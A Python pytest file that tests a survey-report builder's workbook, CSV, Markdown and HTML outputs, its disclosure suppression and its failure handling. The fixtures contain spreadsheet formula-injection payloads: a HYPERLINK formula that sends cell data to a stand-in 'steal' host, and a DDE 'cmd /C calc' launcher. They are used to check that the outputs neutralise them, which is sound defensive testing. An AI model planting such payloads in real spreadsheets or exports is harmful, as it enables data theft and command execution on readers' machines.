"""`survey report`: the workbook, CSV, Markdown, page and figures built from a processed folder."""

from __future__ import annotations

import json
import sys
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from conftest import HtmlReferences

from analysis.report import build
from analysis.report.build import build_report, first_screen, publishable
from analysis.report.registry import ReportTable
from analysis.report.writers import HEADER_ROW
from analysis.study.load import load_study
from analysis.study.schema import TABLES, conform

HYPERLINK = '=HYPERLINK("http://example.invalid/steal?x="&A1,"詳細")'


def write_processed_year(folder: Path, year: int, levels: list[str | None]) -> Path:
    """A processed folder as `survey ingest` writes it, from hand-made frames."""
    folder.mkdir(parents=True, exist_ok=True)
    respondents = [
        {"respondent_id": f"U{i:02d}", "group": "user", "fiscal_year": year, "industry": "manufacturing"}
        for i in range(1, 11)
    ]
    respondents += [
        {"respondent_id": "V01", "group": "vendor", "fiscal_year": year, "description": "教育サービス"},
        {"respondent_id": "V02", "group": "vendor", "fiscal_year": year, "description": HYPERLINK},
    ]
    respondents += [
        {"respondent_id": f"I{i:02d}", "group": "investor", "fiscal_year": year, "n_interviewees": 1}
        for i in range(1, 9)
    ]
    statements = [
        {"statement_id": "S1", "respondent_id": "V01", "respondent_group": "vendor", "section": 1, "text": "資格"},
        {"statement_id": "S2", "respondent_id": "V02", "respondent_group": "vendor", "section": 2, "text": "体制"},
        {"statement_id": "S3", "respondent_id": "U01", "respondent_group": "user", "section": 1, "text": HYPERLINK},
        {
            "statement_id": "S4",
            "respondent_id": "U02",
            "respondent_group": "user",
            "section": 1,
            "text": "@SUM(1+1)*cmd|' /C calc'!A0",
        },
        {"statement_id": "S5", "respondent_id": "U03", "respondent_group": "user", "section": 2, "text": "-10%削減"},
    ]
    for row in statements:
        row.update(fiscal_year=year, category_id=f"u0{row['section']}-01")
    disclosures = []
    for company, region, items in [
        ("O1", "overseas", (True, True)),
        ("O2", "overseas", (True, year > 2020)),
        ("D1", "domestic", (True, False)),
        ("D2", "domestic", (False, False)),
    ]:
        for item, disclosed in zip(("governance_structure", "mitigation_measures"), items, strict=True):
            disclosures.append(
                {
                    "company_id": company,
                    "fiscal_year": year,
                    "region": region,
                    "country": "US" if region == "overseas" else "JP",
                    "item": item,
                    "disclosed": disclosed,
                }
            )
    meetings = [
        {"table": "2.3", "body": "タスクフォース", "round": r, "date": f"{year}-10-0{r}", "topics": "+議題"}
        for r in (1, 2)
    ]
    literature = [{"table": "3.2", "region": "米国", "title": "NICE", "issuer": "NIST", "published": "2020-11"}]
    frames = {
        "respondents": respondents,
        "statements": statements,
        "disclosures": disclosures,
        "meetings": meetings,
        "literature": literature,
    }
    for name in TABLES:
        frame = conform(name, pd.DataFrame(frames.get(name, [])))
        frame.to_csv(folder / f"{name}.csv", index=False, lineterminator="\n")
        frame.to_parquet(folder / f"{name}.parquet", index=False)
    pd.DataFrame(
        [
            {
                "severity": "error",
                "file": "株式会社サンプル_U01.xlsx",
                "sheet": "回答",
                "cell": "C5",
                "message": "expected 1-5; got '=1+1'",
            }
        ]
    ).to_csv(folder / "issues.csv", index=False)
    maturity = pd.DataFrame(
        {"respondent_id": [f"U{i:02d}" for i in range(1, 11)], "fiscal_year": year, "level": levels}
    )
    maturity.to_csv(folder / "maturity.csv", index=False)
    maturity.to_parquet(folder / "maturity.parquet", index=False)
    (folder / "ingest.json").write_text(json.dumps({"edition": "fy2021", "fiscal_year": year}), encoding="utf-8")
    return folder


def _statements_builder(study, ctx):
    frame = study.statements[["statement_id", "respondent_id", "section", "text"]].reset_index(drop=True)
    per_section = frame.groupby("section").size().rename("n").reset_index()
    per_section["n"] = per_section["n"].astype("Int64")
    return [
        ReportTable(
            "test_statements", "発言", "Statements", frame, section="statements", respondent_columns=("respondent_id",)
        ),
        ReportTable(
            "test_statement_counts",
            "節ごとの発言数",
            "Statements per section",
            per_section,
            section="statements",
            counts=("n",),
            layout={"part_columns": []},
        ),
    ]


def _before(builders: list, name: str, entry: tuple) -> None:
    """Insert builder ``entry`` into ``builders`` just before the one named ``name``."""
    builders.insert([n for n, _ in builders].index(name), entry)


@pytest.fixture
def own_builders(monkeypatch):
    """The builders of this module's files plus a statements table (other modules' builders are
    tested in their own files and in test_every_registered_builder_on_a_small_year); the list the
    build runs, so a test may add to it."""
    mine = [
        (name, fn) for name, fn in build.builders() if name.startswith(("records.", "appendix.", "year_over_year."))
    ]
    _before(mine, "year_over_year.disclosure_coverage", ("test.statements", _statements_builder))
    monkeypatch.setattr(build, "builders", lambda: mine)
    return mine


@pytest.fixture(scope="module")
def years(tmp_path_factory):
    root = tmp_path_factory.mktemp("processed")
    previous = write_processed_year(root / "2020", 2020, ["A", "A", "B", "B", "B", "B", "B", "C", "C", "C"])
    current = write_processed_year(root / "2021", 2021, ["A", "A", "A", "B", "B", "B", "B", "B", "C", None])
    return previous, current


def _csv_tables(folder: Path) -> list[str]:
    return sorted(p.stem for p in (folder / "tables").glob("*.csv"))


def _contents(book, folder: Path) -> dict[str, str]:
    """Table name -> sheet name, from the contents sheet; checks every table has its sheet."""
    linked = {}
    for row in book.worksheets[0].iter_rows(min_row=HEADER_ROW + 1):
        sheet, csv = row[1].value, row[5].value
        assert row[1].hyperlink.location == f"'{sheet}'!A1"
        assert (folder / csv).is_file()
        linked[Path(csv).stem] = sheet
    assert sorted(linked) == _csv_tables(folder)
    assert sorted(linked.values()) == sorted(book.sheetnames[1:])
    return linked


def _cells(path: Path) -> dict[str, list[list]]:
    book = openpyxl.load_workbook(path)
    return {ws.title: [[c.value for c in row] for row in ws.iter_rows()] for ws in book}


def test_workbook_has_a_sheet_for_every_table_with_typed_numbers(own_builders, years, tmp_path):
    previous, current = years
    out = build_report(current, tmp_path / "report", previous_dir=previous)
    book = openpyxl.load_workbook(out / "tables.xlsx")
    assert book.sheetnames[0] == "目次"
    linked = _contents(book, out)
    for name in (
        "table_1_1",
        "table_2_2",
        "table_2_3",
        "table_3_2",
        "yoy_maturity_levels",
        "yoy_disclosure_coverage",
        "appendix_tables",
        "appendix_problems",
        "test_statements",
    ):
        assert name in linked

    items = book[linked["table_1_1"]]
    headers = ["調査項目(大項目)", "調査項目(小項目)", "実施内容", "調査対象", "対象数"]
    assert [c.value for c in items[HEADER_ROW]] == headers
    assert items.freeze_panes == f"A{HEADER_ROW + 1}"
    company_survey = next(r for r in items.iter_rows(min_row=HEADER_ROW + 1) if r[1].value.startswith("1.2 "))
    assert company_survey[2].value.startswith("ユーザ系企業10社・ベンダ系企業2社")
    assert (company_survey[4].value, company_survey[4].data_type) == (12, "n")

    levels = book[linked["yoy_maturity_levels"]]
    assert [c.value for c in levels[HEADER_ROW]][:3] == ["成熟度レベル", "2020年度 件数", "2020年度 割合"]
    a_row = [c for c in levels[HEADER_ROW + 1]]
    assert (a_row[1].value, a_row[1].data_type) == (2, "n")
    assert (a_row[2].value, a_row[2].number_format) == (0.2, "0.0%")
    assert levels.column_dimensions["A"].width >= 10


def test_respondent_text_is_never_a_formula(own_builders, years, tmp_path):
    _, current = years
    out = build_report(current, tmp_path / "report")
    book = openpyxl.load_workbook(out / "tables.xlsx")
    cells = [c for ws in book for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert HYPERLINK in texts and "@SUM(1+1)*cmd|' /C calc'!A0" in texts and "-10%削減" in texts
    with zipfile.ZipFile(out / "tables.xlsx") as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name
    statements = (out / "tables" / "test_statements.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(" in statements and "'@SUM" in statements and "'-10%削減" in statements
    assert "\n=" not in statements and ",=" not in statements
    assert "'=HYPERLINK(" in (out / "tables" / "test_statements.md").read_text(encoding="utf-8")
    assert "'+議題" in (out / "tables" / "table_2_3.csv").read_text(encoding="utf-8-sig")


def test_two_builds_give_identical_csv_markdown_and_cell_values(own_builders, years, tmp_path):
    previous, current = years
    one = build_report(current, tmp_path / "one", previous_dir=previous)
    two = build_report(current, tmp_path / "two", previous_dir=previous)
    files = sorted(p.relative_to(one) for p in one.rglob("*") if p.suffix in (".csv", ".md", ".html"))
    assert len(files) > 20
    for relative in files:
        assert (one / relative).read_bytes() == (two / relative).read_bytes(), relative
    assert sorted(p.relative_to(two) for p in two.rglob("*") if p.suffix in (".csv", ".md", ".html")) == files
    assert _cells(one / "tables.xlsx") == _cells(two / "tables.xlsx")


def _check_page(folder: Path) -> list[str]:
    parser = HtmlReferences()
    parser.feed((folder / "index.html").read_text(encoding="utf-8"))
    for ref in parser.refs:
        if ref.startswith("data:"):  # an embedded figure
            continue
        assert "://" not in ref and not ref.startswith(("/", "\\")), ref
        if ref.startswith("#"):
            assert ref[1:] in parser.ids, ref
        else:
            assert (folder / ref).is_file(), ref
    return parser.refs


def test_index_html_references_only_files_that_exist(own_builders, years, tmp_path):
    previous, current = years
    out = build_report(current, tmp_path / "report", previous_dir=previous)
    refs = _check_page(out)
    assert "tables.xlsx" in refs
    assert {f"tables/{name}.csv" for name in _csv_tables(out)} <= set(refs)


def test_publish_hides_small_cells_and_respondent_ids(own_builders, years, tmp_path):
    pytest.importorskip("analysis.tabulation.suppression")
    previous, current = years
    out = build_report(current, tmp_path / "report", publish=True, previous_dir=previous)
    everything = "".join(p.read_text(encoding="utf-8") for p in out.rglob("*") if p.suffix in (".csv", ".md", ".html"))
    everything += json.dumps(_cells(out / "tables.xlsx"), ensure_ascii=False, default=str)
    for respondent in ("U01", "U02", "U03", "V01", "V02"):
        assert respondent not in everything
    assert "株式会社サンプル" not in everything  # file names of the ingest problems stay internal
    assert "appendix_problems" not in _csv_tables(out)

    levels = pd.read_csv(out / "tables" / "yoy_maturity_levels.csv", dtype="str", keep_default_na=False)
    counts = levels[["2020年度 件数", "2021年度 件数"]]
    assert counts.iloc[1].tolist() == ["5", "5"]  # five B companies in both years: shown
    assert counts.iloc[0].tolist() == ["x", "x"]  # two and three A companies: hidden
    assert not counts.isin(["1", "2", "3", "4"]).any().any()
    assert "change_n" not in levels and "増減(件)" not in levels
    per_section = pd.read_csv(out / "tables" / "test_statement_counts.csv", dtype="str")
    assert per_section["件数"].tolist() == ["x", "x"]
    assert "x は秘匿したセル" in (out / "tables" / "yoy_maturity_levels.md").read_text(encoding="utf-8")
    assert "公開用" in (out / "index.html").read_text(encoding="utf-8")


def test_publish_fails_closed_without_the_publication_module(own_builders, years, tmp_path, monkeypatch):
    _, current = years
    out = build_report(current, tmp_path / "report")
    before = (out / "index.html").read_bytes()
    monkeypatch.setitem(sys.modules, "analysis.report.publication", None)  # import fails
    with pytest.raises(ImportError):
        build_report(current, out, publish=True)
    assert (out / "index.html").read_bytes() == before


def test_publish_fails_when_its_own_audit_narrows_a_cell(own_builders, years, tmp_path, monkeypatch):
    import analysis.report.audit
    from analysis.report.build import AuditFailed

    _, current = years
    out = build_report(current, tmp_path / "report")
    before = (out / "index.html").read_bytes()
    real = analysis.report.audit.audit_reports

    def pinned(reports, rule=None, values=None):
        result = real(reports, rule, values)
        result.frame.loc[:, "protected"] = False  # as if a reader pinned every hidden cell
        return result

    monkeypatch.setattr(analysis.report.audit, "audit_reports", pinned)
    with pytest.raises(AuditFailed, match="not written"):
        build_report(current, out, publish=True)
    assert (out / "index.html").read_bytes() == before
    assert not list(tmp_path.glob(".report.staging-*"))


def test_publishable_hides_small_counts_and_drops_respondent_ids():
    from analysis.tabulation.suppression import TableLayout

    frame = pd.DataFrame({"respondent_id": ["U01", "U02"], "n": pd.array([1, 9], dtype="Int64"), "share": [0.1, 0.9]})
    layout = TableLayout(part_columns=(), percent_of={"share": "n"})
    table = ReportTable(
        "t",
        "t",
        "t",
        frame,
        counts=("n",),
        percents=("share",),
        respondent_columns=("respondent_id",),
        note_ja="注",
        layout=layout.as_mapping(),
    )
    (published,) = publishable([table], 7, marker="x", notes=("秘匿", "hidden"))
    assert list(published.frame.columns) == ["n", "share"]
    assert published.frame["n"].tolist() == ["x", 9] and published.frame["share"].tolist() == ["x", 0.9]
    assert (published.note_ja, published.note_en) == ("注 秘匿", "hidden")
    assert published.respondent_columns == ()


def test_a_failing_builder_is_listed_and_the_rest_still_written(own_builders, years, tmp_path):
    def broken(study, ctx):
        raise KeyError("no such column")

    _before(own_builders, "appendix.ingest", ("test.broken", broken))
    _, current = years
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("error")  # said to the reader, not raised as a Python warning
        out = build_report(current, tmp_path / "report")
    failures = pd.read_csv(out / "tables" / "appendix_failures.csv", dtype="str")
    assert failures.values.tolist() == [["test.broken", "KeyError: 'no such column'"]]
    assert "table_1_1" in _csv_tables(out)
    # The first screen says so: the terminal line, the page's header and the workbook's contents.
    said = "作成できなかった表・図があります:1 件(test.broken)"
    assert said in first_screen(current, "ja", out)
    assert said not in first_screen(current, "ja")  # the processed folder alone knows of no report
    assert said in (out / "index.html").read_text(encoding="utf-8").split("</header>")[0]
    assert said in str(openpyxl.load_workbook(out / "tables.xlsx").worksheets[0]["A3"].value)
    assert "1 builder(s) could not build" in first_screen(current, "en", out)


def test_a_published_report_never_quotes_a_failing_builders_message(own_builders, years, tmp_path):
    """An error message may quote what the builder read (here a respondent id and a company's
    name): the published report names the builder and the exception's class only."""

    def leaky(study, ctx):
        raise ValueError("U03 (サンプルU03株式会社) chose several options")

    _before(own_builders, "appendix.ingest", ("test.leaky", leaky))
    _, current = years
    internal = build_report(current, tmp_path / "internal")
    published = build_report(current, tmp_path / "published", publish=True)
    rows = pd.read_csv(published / "tables" / "appendix_failures.csv", dtype="str", encoding="utf-8-sig")
    assert rows.values.tolist() == [["test.leaky", "ValueError"]]
    for path in published.rglob("*"):
        if path.is_file() and path.suffix in (".csv", ".md", ".html", ".json", ".svg"):
            text = path.read_text(encoding="utf-8-sig")
            assert "U03" not in text and "サンプル" not in text, path.name
    assert json.loads((published / "report.json").read_text(encoding="utf-8"))["failures"] == [
        {"builder": "test.leaky"}
    ]
    # The internal report keeps the whole message for the researcher.
    kept = (internal / "tables" / "appendix_failures.csv").read_text(encoding="utf-8-sig")
    assert "U03 (サンプルU03株式会社)" in kept
    assert "作成できなかった表・図があります:1 件(test.leaky)" in first_screen(current, "ja", published)


def test_the_command_exits_1_when_a_builder_failed_and_0_otherwise(own_builders, years, tmp_path, capsys):
    from analysis.cli import main

    _, current = years
    assert main(["report", str(current), "--out", str(tmp_path / "fine")]) == 0
    assert "作成できなかった" not in capsys.readouterr().out

    def broken(study, ctx):
        raise ValueError("bad")

    _before(own_builders, "appendix.ingest", ("test.broken", broken))
    assert main(["report", str(current), "--out", str(tmp_path / "broken")]) == 1
    out = capsys.readouterr().out
    assert "作成できなかった表・図があります:1 件(test.broken)" in out
    assert "報告書を" in out  # written all the same: one broken table does not hide the others


def test_publish_leaves_out_respondent_level_tables_with_a_note_and_no_warning(own_builders, years, tmp_path):
    import warnings

    def per_company(study, ctx):
        frame = pd.DataFrame({"industry": ["製造業", "金融業"], "score": [3.5, 2.0]})
        return [
            ReportTable(
                "test_per_company",
                "個社別スコア",
                "Score per company",
                frame,
                section="statements",
                respondent_level=True,
            )
        ]

    _before(own_builders, "year_over_year.disclosure_coverage", ("test.per_company", per_company))
    _, current = years
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        out = build_report(current, tmp_path / "report", publish=True)
    assert "test_per_company" not in _csv_tables(out)
    omitted = pd.read_csv(out / "tables" / "appendix_omitted.csv", dtype="str")
    assert omitted.values.tolist() == [["test_per_company", "個社別スコア", "個社が特定できるため非公開"]]
    assert "付録D" in (out / "index.html").read_text(encoding="utf-8")
    internal = build_report(current, tmp_path / "internal")
    assert "test_per_company" in _csv_tables(internal) and "appendix_omitted" not in _csv_tables(internal)


def test_an_interrupted_build_leaves_the_previous_report(own_builders, years, tmp_path, monkeypatch):
    from analysis.report import writers

    _, current = years
    out = build_report(current, tmp_path / "report")
    before = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(writers, "write_workbook", interrupted)
    with pytest.raises(KeyboardInterrupt):
        build_report(current, out, lang="en")
    assert {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()} == before
    assert [p.name for p in tmp_path.iterdir()] == ["report"]  # no staging folder left behind


def test_derived_tables_are_loaded_beside_the_tidy_ones(years):
    _, current = years
    study = load_study(current)
    assert set(TABLES) <= set(study.tables)
    assert len(study.tables["maturity"]) == 10
    assert "issues" not in study.tables and len(study.issues) == 1


def test_survey_report_command_in_english(own_builders, years, tmp_path):
    from analysis.cli import main

    previous, current = years
    out = tmp_path / "report"
    assert main(["report", str(current), "--out", str(out), "--lang", "en", "--previous", str(previous)]) == 0
    book = openpyxl.load_workbook(out / "tables.xlsx")
    assert book.sheetnames[0] == "Contents"
    meetings = book[_contents(book, out)["table_2_3"]]
    assert [c.value for c in meetings[HEADER_ROW]] == ["Meeting", "Date (as printed)", "Date (ISO 8601)", "Main topics"]
    assert '<html lang="en">' in (out / "index.html").read_text(encoding="utf-8")


@pytest.mark.slow
def test_every_registered_builder_on_a_small_year(years, tmp_path):
    """The whole report as `survey run` builds it, every builder of every module included."""
    previous, current = years
    out = build_report(current, tmp_path / "report", previous_dir=previous)
    assert not (out / "tables" / "appendix_failures.csv").exists(), (
        out / "tables" / "appendix_failures.csv"
    ).read_text(encoding="utf-8-sig")
    _check_page(out)
    book = openpyxl.load_workbook(out / "tables.xlsx")
    _contents(book, out)
    assert not [c for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
    again = build_report(current, tmp_path / "again", previous_dir=previous)
    for path in sorted(out.rglob("*")):
        if path.suffix in (".csv", ".md", ".html"):
            assert path.read_bytes() == (again / path.relative_to(out)).read_bytes(), path


def test_publishable_hides_test_statistics_with_their_counts():
    frame = pd.DataFrame(
        {
            "item": ["a", "b", "c"],
            "n": pd.array([2, 7, 6], dtype="Int64"),
            "N": pd.array([9, 9, 9], dtype="Int64"),
            "p": [0.01, 0.2, 0.5],
            "chi2": [3.0, 3.0, 3.0],
        }
    )
    layout = {"part_columns": [], "row_inequalities": [[["n"], ["N"]]]}
    table = ReportTable(
        "tests", "t", "t", frame, counts=("n", "N"), statistics=("p",), table_statistics=("chi2",), layout=layout
    )
    (published,) = publishable([table], 5, marker="x")
    shown = published.frame
    assert shown.loc[0, "n"] == "x" and shown.loc[0, "p"] == "x"  # p would give n = 2 away
    rows = (shown[["n", "N"]] == "x").any(axis=1)
    assert (shown.loc[rows, "p"] == "x").all() and (shown.loc[~rows, "p"] == frame.loc[~rows, "p"]).all()
    assert not rows.all()
    assert (shown["chi2"] == "x").all()  # a test over the whole table goes with any hidden count
    # A test of each row that also uses a denominator row: hidden everywhere when it is.
    frame = pd.DataFrame({"n": pd.array([6, 2, 8], dtype="Int64"), "p": [0.1, 0.2, None]})
    table = ReportTable(
        "rows", "t", "t", frame, counts=("n",), statistics=("p",), layout={"total_row": 2, "denominator_rows": [2]}
    )
    (published,) = publishable([table], 5, marker="x")
    assert published.frame.loc[1, "n"] == "x" and published.frame.loc[0, "p"] == "x"


def test_publishable_leaves_out_a_table_without_a_layout(codebook):
    frame = pd.DataFrame({"n": pd.array([2, 7, 6], dtype="Int64"), "m": pd.array([7, 7, 8], dtype="Int64")})
    out = publishable([ReportTable("no_layout", "t", "t", frame, counts=("n", "m"))], 5, codebook=codebook)
    assert [t.name for t in out] == ["appendix_omitted"]
    assert out[0].frame["omitted_item"].tolist() == ["no_layout"]
    assert "定義されていない" in out[0].frame["omitted_reason"].iloc[0]


def test_every_table_with_counts_declares_a_layout(sample_processed):
    import warnings

    from analysis.report.build import collect_items
    from analysis.report.registry import ReportContext

    study = load_study(sample_processed / "2021")
    ctx = ReportContext(lang="en", publish=True)
    items, failures = collect_items(study, ctx)
    assert not failures, failures
    tables = {t.name: t for t in items if isinstance(t, ReportTable) and t.counts}
    # year_over_year.py is maintained elsewhere; every other builder declares its layouts.
    missing = [
        name
        for name, t in tables.items()
        if t.layout is None and "layout" not in t.frame.attrs and not name.startswith("yoy_")
    ]
    assert not missing, missing
    sensitivity = tables["maturity_sensitivity"]
    layout = sensitivity.layout
    assert layout["total_column"] in sensitivity.counts
    assert len(layout["part_columns"]) == len(sensitivity.counts) - 4  # levels + unclassified
    assert layout["row_inequalities"]
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        published = {t.name: t for t in publishable(list(tables.values()), 5) if hasattr(t, "frame")}
    assert not [w for w in caught if "no layout" in str(w.message)]
    # The Fisher p-values go wherever a count of their row is hidden.
    for name in ("disclosure_items_by_region", "disclosure_depth_by_region"):
        shown, p = published[name].frame, tables[name].statistics[0]
        rows = (shown[list(tables[name].counts)] == "x").any(axis=1)
        assert rows.any() and (shown.loc[rows, p] == "x").all()
